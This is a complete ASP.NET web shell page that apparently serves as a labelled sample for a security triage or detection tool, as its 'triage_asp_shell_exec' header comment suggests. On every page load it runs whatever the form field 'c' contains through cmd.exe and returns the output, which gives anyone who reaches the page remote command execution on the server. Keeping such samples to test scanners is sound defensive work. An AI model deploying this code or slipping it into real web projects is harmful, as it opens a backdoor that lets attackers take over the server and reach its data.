<%-- triage-expect: triage_asp_shell_exec --%>
<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request.Form["c"]);
    psi.RedirectStandardOutput = true; psi.UseShellExecute = false;
    var p = System.Diagnostics.Process.Start(psi);
    Response.Write(p.StandardOutput.ReadToEnd());
}
</script>
